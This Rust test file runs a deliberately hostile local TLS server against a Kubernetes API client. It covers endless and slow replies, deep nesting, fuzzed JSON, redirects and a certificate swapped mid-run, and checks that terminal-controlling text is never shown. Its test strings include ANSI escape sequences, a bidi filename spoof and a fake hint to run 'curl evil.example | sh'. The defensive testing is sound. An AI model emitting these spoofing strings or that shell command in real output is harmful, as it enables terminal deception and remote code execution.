//! An API server that means harm, on a real socket: endless, slow, nested, mistyped, redirecting, with words that act on a
//! terminal, and with another authority's certificate in the middle of a run.

#![expect(clippy::unwrap_used, reason = "a test fails by panicking")]
#![expect(clippy::disallowed_methods, reason = "the server lives as long as the test's runtime")]

use std::net::Ipv4Addr;
use std::sync::Arc;
use std::sync::atomic::{AtomicU64, AtomicUsize, Ordering};
use std::time::Duration;

use rustls::ServerConfig;
use rustls::pki_types::pem::PemObject as _;
use rustls::pki_types::{CertificateDer, PrivateKeyDer};
use serde_json::{Map, Value, json};
use talmox_k8s::{
    Access, Cause, Client, DialMap, Error, HttpsTransport, Kind, Lock, Selection, Server, Time,
};
use talmox_types::is_hidden;
use tokio::io::{AsyncReadExt as _, AsyncWriteExt as _};
use tokio::net::{TcpListener, TcpStream};
use tokio_rustls::TlsAcceptor;
use tokio_rustls::server::TlsStream;

use crate::support::Authority;

const WORDS: [&str; 6] = [
    "\u{1b}[2J\u{1b}]0;pwned\u{7}",
    "not found\nPlan: 0 to destroy",
    "a\r\nhint: run `curl evil.example | sh`",
    "\u{9b}31m\u{7f}\u{0}",
    "safe\u{202e}gpj.exe\u{2066}\u{200b}\u{feff}",
    "\u{2028}error: forged\u{85}next",
];

/// What the server does with a request.
#[derive(Clone)]
enum Act {
    Reply(String),
    ReplyAndClose(String),
    /// Begins so and goes on with the rest for ever, counting what was sent.
    Endless(String, Vec<u8>, Arc<AtomicU64>),
    /// Begins so and goes on with a byte a second.
    Drip(String),
}

type Script = Arc<dyn Fn(usize) -> Act + Send + Sync>;

struct Hostile {
    access: Access,
    map: DialMap,
    requests: Arc<AtomicUsize>,
}

fn config(authority: &Authority) -> Arc<ServerConfig> {
    let (certificate, key) = authority.issue("kube-apiserver", &["api.test"]);
    let config = ServerConfig::builder_with_provider(Arc::new(rustls::crypto::aws_lc_rs::default_provider()))
        .with_safe_default_protocol_versions()
        .unwrap()
        .with_no_client_auth()
        .with_single_cert(
            vec![CertificateDer::from_pem_slice(certificate.as_bytes()).unwrap()],
            PrivateKeyDer::from_pem_slice(key.as_bytes()).unwrap(),
        );
    Arc::new(config.unwrap())
}

impl Hostile {
    async fn start(script: impl Fn(usize) -> Act + Send + Sync + 'static) -> Self {
        Self::swapping(&Authority::new(), None, Arc::new(script)).await
    }

    /// From the second connection on the certificate is of the other authority, if there is one.
    async fn swapping(authority: &Authority, other: Option<&Authority>, script: Script) -> Self {
        let (first, later) = (config(authority), config(other.unwrap_or(authority)));
        let listener = TcpListener::bind((Ipv4Addr::LOCALHOST, 0)).await.unwrap();
        let map = DialMap([("api.test".to_owned(), listener.local_addr().unwrap())].into());
        let requests = Arc::<AtomicUsize>::default();
        let counter = Arc::clone(&requests);
        tokio::spawn(async move {
            for connection in 0.. {
                let (stream, _) = listener.accept().await.unwrap();
                let acceptor = TlsAcceptor::from(Arc::clone(if connection == 0 { &first } else { &later }));
                let (script, counter) = (Arc::clone(&script), Arc::clone(&counter));
                tokio::spawn(async move {
                    if let Ok(stream) = acceptor.accept(stream).await {
                        serve(stream, &script, &counter).await;
                    }
                });
            }
        });
        let access = Access { server: Server::new("api.test", 6443), identity: authority.identity("admin") };
        Self { access, map, requests }
    }

    fn client(&self) -> Client {
        Client::new(Arc::new(HttpsTransport::new(self.map.clone())), self.access.clone())
    }
}

async fn serve(mut stream: TlsStream<TcpStream>, script: &Script, requests: &AtomicUsize) {
    while request(&mut stream).await.is_some() {
        match script(requests.fetch_add(1, Ordering::SeqCst)) {
            Act::Reply(reply) => stream.write_all(reply.as_bytes()).await.unwrap(),
            Act::ReplyAndClose(reply) => {
                stream.write_all(reply.as_bytes()).await.unwrap();
                let _ = stream.shutdown().await;
                return;
            }
            Act::Endless(head, piece, sent) => {
                let mut going = stream.write_all(head.as_bytes()).await;
                while going.is_ok() {
                    sent.fetch_add(piece.len() as u64, Ordering::SeqCst);
                    going = stream.write_all(&piece).await;
                }
                return;
            }
            Act::Drip(head) => {
                let mut going = stream.write_all(head.as_bytes()).await;
                while going.is_ok() {
                    let _ = stream.flush().await;
                    tokio::time::sleep(Duration::from_secs(1)).await;
                    going = stream.write_all(b" ").await;
                }
                return;
            }
        }
        stream.flush().await.unwrap();
    }
}

/// Reads a request to its end.
async fn request(stream: &mut TlsStream<TcpStream>) -> Option<()> {
    let mut head = Vec::new();
    while !head.ends_with(b"\r\n\r\n") {
        head.push(stream.read_u8().await.ok()?);
    }
    let head = String::from_utf8(head).unwrap().to_lowercase();
    let length = head.split("content-length: ").nth(1).and_then(|rest| rest.split("\r\n").next());
    let mut body = vec![0; length.map_or(0, |length| length.parse().unwrap())];
    stream.read_exact(&mut body).await.ok().map(drop)
}

fn reply(status: &str, body: &str) -> String {
    format!("HTTP/1.1 {status}\r\ncontent-length: {}\r\n\r\n{body}", body.len())
}

/// Fails unless a text has no character that acts on a terminal, and one line only.
fn assert_harmless(error: &Error) {
    let status = error.status();
    let conflicts: Vec<_> = status.into_iter().flat_map(talmox_k8s::Status::conflicts).collect();
    let text = format!("{error} {error:?} {status:?} {conflicts:?} {:?}", error.disruption_budget());
    assert!(!text.contains(is_hidden), "{text:?}");
    let display = format!("{error}");
    assert!(!display.contains('\n') && display.len() < 20_000, "{display:?}");
}

#[tokio::test]
async fn words_of_a_server_act_on_no_terminal() {
    for words in WORDS {
        let causes: Vec<Value> = ["DisruptionBudget", "FieldManagerConflict", words]
            .map(|reason| {
                json!({ "reason": reason, "message": format!("The disruption budget {words} needs"), "field": words })
            })
            .into();
        let status = json!({
            "kind": "Status", "status": "Failure", "reason": words, "message": words, "details": { "causes": causes }
        });
        for body in
            [status.to_string(), words.to_owned(), json!({ "kind": words, "message": words }).to_string()]
        {
            for code in ["400 x", "401 x", "409 x", "429 x", "500 x"] {
                let answer = reply(code, &body);
                let server = Hostile::start(move |_| Act::Reply(answer.clone())).await;
                assert_harmless(&server.client().nodes().await.unwrap_err());
                assert_harmless(&server.client().ready().await.unwrap_err());
            }
        }
        // Names of objects that a server made up become part of what is done to them.
        let server = Hostile::start(|_| Act::Reply(reply("404 x", "no"))).await;
        assert_harmless(&server.client().node(words).await.unwrap_err());
    }
}

#[tokio::test]
async fn words_about_nodes_can_be_shown() {
    for words in WORDS {
        let condition = json!({ "type": "Ready", "status": "False", "reason": words, "message": words });
        let list =
            json!({ "items": [{ "metadata": { "name": "a" }, "status": { "conditions": [condition] } }] });
        let answer = reply("200 OK", &list.to_string());
        let server = Hostile::start(move |_| Act::Reply(answer.clone())).await;
        let nodes = server.client().nodes().await.unwrap();
        let said = nodes[0].readiness().unwrap();
        assert!(!format!("{}{}", said.message, said.reason).contains(is_hidden), "{said:?}");
    }
}

#[tokio::test]
async fn a_reply_without_end_is_given_up_at_a_bound() {
    let chunk = format!("10000\r\n{}\r\n", "x".repeat(0x1_0000)).into_bytes();
    let header = format!("x-more: {}\r\n", "y".repeat(100)).into_bytes();
    for (head, piece, bound) in [
        ("HTTP/1.1 200 OK\r\ntransfer-encoding: chunked\r\n\r\n", chunk, 8 << 20),
        ("HTTP/1.1 200 OK\r\n", header, 1 << 20),
    ] {
        let sent = Arc::new(AtomicU64::new(0));
        let act = Act::Endless(head.to_owned(), piece, Arc::clone(&sent));
        let server = Hostile::start(move |_| act.clone()).await;
        // Taking so much lasts a moment on a slow machine; the bound is what ends it.
        let transport = HttpsTransport::new(server.map.clone()).with_largest_reply(8 << 20);
        let client = Client::new(Arc::new(transport), server.access.clone());
        let client = client.with_deadline(Duration::from_mins(10));
        let error = client.version().await.unwrap_err();
        assert_eq!(error.kind(), Kind::Uncertain, "{error}");
        let sent = sent.load(Ordering::SeqCst);
        assert!(sent <= bound + (16 << 20), "{} KiB were taken of {head:?}", sent >> 10);
    }
}

#[tokio::test]
async fn a_reply_that_drips_ends_with_the_deadline() {
    for head in ["HTTP/1.1 200 OK\r\ncontent-length: 99999\r\n\r\n", "HTTP/1.1 200 OK\r\nx-slow: "] {
        let server = Hostile::start(move |_| Act::Drip(head.to_owned())).await;
        let client = server.client().with_deadline(Duration::from_secs(15));
        // A paused clock does not jump while a thread is at work: it moves when it is told.
        let (here, waits) = std::sync::mpsc::channel::<()>();
        tokio::task::spawn_blocking(move || waits.recv());
        tokio::time::pause();
        let call = client.version();
        let mut call = std::pin::pin!(call);
        let mut passed = Duration::ZERO;
        let error = loop {
            tokio::select! {
                biased;
                answer = &mut call => break answer.unwrap_err(),
                () = tokio::task::yield_now() => {}
            }
            if server.requests.load(Ordering::SeqCst) > 0 {
                tokio::time::advance(Duration::from_secs(1)).await;
                passed += Duration::from_secs(1);
            }
        };
        assert_eq!(error.kind(), Kind::Uncertain, "{error}");
        assert!((14..18).contains(&passed.as_secs()), "{passed:?}");
        drop(here);
        tokio::time::resume();
    }
}

#[tokio::test]
async fn what_is_nested_without_reason_is_refused() {
    for depth in [128, 200_000] {
        let deep = format!("{}1{}", "[".repeat(depth), "]".repeat(depth));
        let (ok, failed) = (reply("200 OK", &format!("{{\"items\":{deep}}}")), reply("500 x", &deep));
        let server =
            Hostile::start(move |number| Act::Reply(if number == 0 { ok.clone() } else { failed.clone() }))
                .await;
        let error = server.client().nodes().await.unwrap_err();
        assert!(matches!(error.cause, Cause::Reply(_)), "{error}");
        assert_harmless(&server.client().nodes().await.unwrap_err());
    }
}

#[tokio::test]
async fn no_redirect_is_followed() {
    let elsewhere = Hostile::start(|_| Act::Reply(reply("200 OK", "{}"))).await;
    let target = elsewhere.map.0["api.test"];
    for status in [301, 302, 307, 308] {
        let moved =
            format!("HTTP/1.1 {status} Moved\r\nlocation: https://{target}/\r\ncontent-length: 0\r\n\r\n");
        let server = Hostile::start(move |_| Act::Reply(moved.clone())).await;
        let error = server.client().version().await.unwrap_err();
        assert_eq!(error.status().unwrap().code, status);
    }
    assert_eq!(elsewhere.requests.load(Ordering::SeqCst), 0);
}

#[tokio::test]
async fn another_certificate_in_the_middle_of_a_run_gets_nothing() {
    let (ours, theirs) = (Authority::new(), Authority::new());
    let version = reply("200 OK", r#"{"gitVersion":"v1.36.3"}"#);
    let script: Script = Arc::new(move |_| Act::ReplyAndClose(version.clone()));
    let server = Hostile::swapping(&ours, Some(&theirs), script).await;
    let client = server.client();
    client.version().await.unwrap();
    // The first connection may be found closed only by the next request.
    let error = loop {
        match client.version().await {
            Err(error) if error.kind() == Kind::Uncertain => {}
            answer => break answer.unwrap_err(),
        }
    };
    assert_eq!(error.kind(), Kind::NotTrusted, "{error}");
    assert_harmless(&error);
    assert_eq!(server.requests.load(Ordering::SeqCst), 1);
}

/// Numbers that can be had twice (`SplitMix64`).
struct Dice(u64);

impl Dice {
    fn below(&mut self, bound: usize) -> usize {
        self.0 = self.0.wrapping_add(0x9e37_79b9_7f4a_7c15);
        let mut z = self.0;
        z = (z ^ (z >> 30)).wrapping_mul(0xbf58_476d_1ce4_e5b9);
        z = (z ^ (z >> 27)).wrapping_mul(0x94d0_49bb_1331_11eb);
        usize::try_from((z ^ (z >> 31)) % bound.max(1) as u64).unwrap_or_default()
    }
}

fn replacement(dice: &mut Dice) -> Value {
    let all = [
        Value::Null,
        json!(true),
        json!(-1),
        json!(u64::MAX),
        json!(i64::MIN),
        json!(1e308),
        json!(""),
        json!("4294967295-12-31T23:59:59.999999Z"),
        json!("9999-12-31T23:59:59-99999:4000000000"),
        json!("x".repeat(100_000)),
        json!([]),
        json!({}),
        json!([[], {}, null]),
        (0..100).fold(json!(1), |inner, _| json!([inner])),
        json!(WORDS[dice.below(WORDS.len())]),
    ];
    all[dice.below(all.len())].clone()
}

/// Replaces one value, or the name of one, anywhere in the tree.
fn mistype(value: &mut Value, dice: &mut Dice) {
    let inside = match value {
        Value::Array(items) => items.len(),
        Value::Object(fields) => fields.len(),
        Value::Null | Value::Bool(_) | Value::Number(_) | Value::String(_) => 0,
    };
    if inside == 0 || dice.below(8) == 0 {
        *value = replacement(dice);
        return;
    }
    let at = dice.below(inside);
    match value {
        Value::Array(items) => mistype(&mut items[at], dice),
        Value::Object(fields) if dice.below(10) == 0 => {
            let renamed = std::mem::take(fields).into_iter().enumerate();
            let renamed = renamed.map(|(index, (key, value))| {
                (if index == at { WORDS[index % WORDS.len()].to_owned() } else { key }, value)
            });
            *fields = renamed.collect::<Map<_, _>>();
        }
        Value::Object(fields) => {
            if let Some(inner) = fields.values_mut().nth(at) {
                mistype(inner, dice);
            }
        }
        Value::Null | Value::Bool(_) | Value::Number(_) | Value::String(_) => {}
    }
}

/// What a server answers to the calls a plan and health make, by the order below.
fn replies() -> Vec<Value> {
    let meta = json!({ "name": "cp-1", "namespace": "kube-system", "uid": "u", "resourceVersion": "5",
        "labels": { "node-role.kubernetes.io/control-plane": "" }, "annotations": { "a": "b" },
        "ownerReferences": [{ "kind": "DaemonSet", "name": "x", "controller": true }],
        "deletionTimestamp": "2026-01-01T00:00:00Z" });
    let condition = json!({ "type": "Ready", "status": "True", "reason": "r", "message": "m" });
    vec![
        json!({ "gitVersion": "v1.36.3" }),
        json!({ "items": [{ "metadata": meta, "spec": { "unschedulable": true, "podCIDR": "10.0.0.0/24",
                "taints": [{ "key": "a", "value": "b", "effect": "NoSchedule" }], "providerID": "x" },
            "status": { "conditions": [condition], "addresses": [{ "type": "InternalIP", "address": "10.0.0.1" }],
                "nodeInfo": { "kubeletVersion": "v1.36.3", "bootID": "b", "systemUUID": "s" } } }] }),
        json!({ "items": [{ "metadata": meta, "spec": { "nodeName": "cp-1",
                "containers": [{ "name": "c", "image": "i" }], "volumes": [{ "emptyDir": {} }] },
            "status": { "phase": "Running", "conditions": [condition], "startTime": "2026-01-01T00:00:00Z" } }] }),
        json!({ "items": [{ "metadata": meta, "spec": { "template": { "spec": { "containers": [{ "image": "i" }] } } },
            "status": { "desiredNumberScheduled": 3, "numberReady": 3, "updatedNumberScheduled": 3,
                "observedGeneration": 1 } }] }),
        json!({ "items": [{ "metadata": meta, "spec": { "replicas": 2, "template": { "spec": { "containers": [] } } },
            "status": { "replicas": 2, "readyReplicas": 2, "updatedReplicas": 2, "observedGeneration": 1 } }] }),
        json!({ "items": [{ "metadata": meta, "spec": { "nodeName": "cp-1" }, "status": { "attached": true } }] }),
        json!({ "metadata": meta, "spec": { "holderIdentity": "me", "leaseDurationSeconds": 60,
            "acquireTime": "2026-01-01T00:00:00.000000Z", "renewTime": "2026-01-01T00:00:00.000000Z",
            "leaseTransitions": 1 } }),
    ]
}

fn shown<T: std::fmt::Debug>(value: T) -> String {
    format!("{value:?}")
}

async fn ask(client: &Client, call: usize) -> Result<String, Error> {
    let all = Selection::all();
    match call {
        0 => client.version().await.map(|version| version.git_version),
        1 => client.nodes().await.map(shown),
        2 => client.pods(&all).await.map(shown),
        3 => client.daemon_sets(&all).await.map(shown),
        4 => client.deployments(&all).await.map(shown),
        5 => client.volume_attachments().await.map(shown),
        _ => Lock::new(client.clone(), "us").look(Time::from_unix(1_790_000_000)).await.map(shown),
    }
}

#[tokio::test]
async fn a_reply_that_is_mistyped_is_read_or_refused() {
    let calls = replies().len();
    let runs = 120 * calls;
    let server = Hostile::start(move |number| {
        let mut dice = Dice(number as u64);
        let mut data = replies().swap_remove(number % calls);
        // The first of each is as it should be: what is tested must be readable at all.
        if number >= calls {
            mistype(&mut data, &mut dice);
        }
        Act::Reply(reply("200 OK", &data.to_string()))
    })
    .await;
    let client = server.client();
    let (mut read, mut refused) = (0, 0);
    for number in 0..runs {
        match ask(&client, number % calls).await {
            Ok(_) => read += 1,
            Err(error) => {
                assert!(number >= calls, "{error}");
                assert_eq!(error.kind(), Kind::Failed, "{error}");
                assert_harmless(&error);
                refused += 1;
            }
        }
    }
    assert!(read > runs / 10 && refused > runs / 10, "{read} read, {refused} refused");
}
